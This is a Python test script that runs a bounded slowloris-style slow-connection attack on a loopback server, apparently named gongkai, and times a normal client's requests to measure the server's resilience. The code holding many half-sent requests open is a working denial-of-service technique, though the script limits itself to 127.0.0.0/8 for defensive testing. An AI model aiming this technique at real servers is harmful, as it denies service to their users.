#!/usr/bin/env python3
"""slowconn.py — a bounded slow-connection ("slowloris") attack on a gongkai server on the
loopback, with a normal client's requests timed while it goes on. Used by slowconn.sh.

usage: slowconn.py PORT ATTACK_ADDR CLIENT_ADDR N SECONDS

From ATTACK_ADDR (another loopback address, e.g. 127.0.0.2) it opens up to N connections to
127.0.0.1:PORT, each sending the start of a request and then one more header byte every
half second, for SECONDS at most. Meanwhile, from CLIENT_ADDR, it makes one normal GET / a
quarter second apart on fresh connections. It prints one line of key=value facts:
  opened      connections the server accepted
  refused     connections refused or reset at once
  busy        connections answered 503
  held        the most connections the server kept open at once for the attacker (those that
              lived 1.5 s or more; a refused one may first wait in the listen backlog)
  cut         trickling connections the server closed before the attack ended
  max_life    the longest a trickling connection lived before the server closed it (s)
  ok, failed  the normal client's requests answered 200 / not
  p50, max    the normal client's latency in milliseconds
Nothing is sent anywhere but 127.0.0.0/8.
"""
import resource
import selectors
import socket
import sys
import time


def normal_get(port, addr):
    t0 = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(addr, 0))
        s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        ok = data.startswith(b"HTTP/1.1 200")
    except OSError:
        ok = False
    return ok, (time.monotonic() - t0) * 1000


def main():
    port, attack, client, n, seconds = (int(sys.argv[1]), sys.argv[2], sys.argv[3],
                                        int(sys.argv[4]), float(sys.argv[5]))
    for a in (attack, client):
        if not a.startswith("127."):
            sys.exit("loopback addresses only")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, n + 256)), hard))
    sel = selectors.DefaultSelector()
    conns = {}
    life = []                      # (opened, closed) of every connection the server closed
    opened = refused = busy = cut = 0
    max_life = 0.0
    start = time.monotonic()

    def poll(timeout):
        nonlocal busy, cut, refused, max_life
        for key, _ in sel.select(timeout=timeout):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data.startswith(b"HTTP/1.1 503"):
                busy += 1
            elif data:
                continue
            now = time.monotonic()
            lived = now - conns[s]
            life.append((conns[s], now))
            if lived < 0.3:
                refused += 1
            elif not data.startswith(b"HTTP/1.1 503"):
                cut += 1
                max_life = max(max_life, lived)
            sel.unregister(s)
            s.close()
            del conns[s]

    for i in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((attack, 0))
        s.settimeout(2)
        t = time.monotonic()
        try:
            s.connect(("127.0.0.1", port))
            s.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        except OSError:
            refused += 1
            life.append((t, t))
            s.close()
            continue
        s.setblocking(False)
        conns[s] = t
        sel.register(s, selectors.EVENT_READ)
        opened += 1
        if i % 20 == 19:
            poll(0)
    lat, ok, failed = [], 0, 0
    next_trickle = next_get = time.monotonic()
    while time.monotonic() - start < seconds:
        now = time.monotonic()
        if now >= next_get:
            good, ms = normal_get(port, client)
            ok += good
            failed += not good
            lat.append(ms)
            next_get = time.monotonic() + 0.25
        if now >= next_trickle:
            for s in list(conns):
                try:
                    s.send(b"a")
                except OSError:
                    pass
            next_trickle = now + 0.5
        poll(0.05)
    end = time.monotonic()
    life.extend((t, end) for t in conns.values())
    # held: the most connections open at once that the server kept (lived 1.5 s or more);
    # those refused die at once, though under load they may first wait in the listen backlog
    kept = [(a, b) for a, b in life if b - a >= 1.5]
    held = 0
    t = start
    while t < end:
        held = max(held, sum(1 for a, b in kept if a <= t < b))
        t += 0.1
    for s in conns:
        s.close()
    lat.sort()
    p50 = lat[len(lat) // 2] if lat else 0
    print("opened=%d refused=%d held=%d busy=%d cut=%d max_life=%.1f ok=%d failed=%d p50=%.1f max=%.1f" %
          (opened, refused, held, busy, cut, max_life, ok, failed, p50, lat[-1] if lat else 0))


if __name__ == "__main__":
    main()
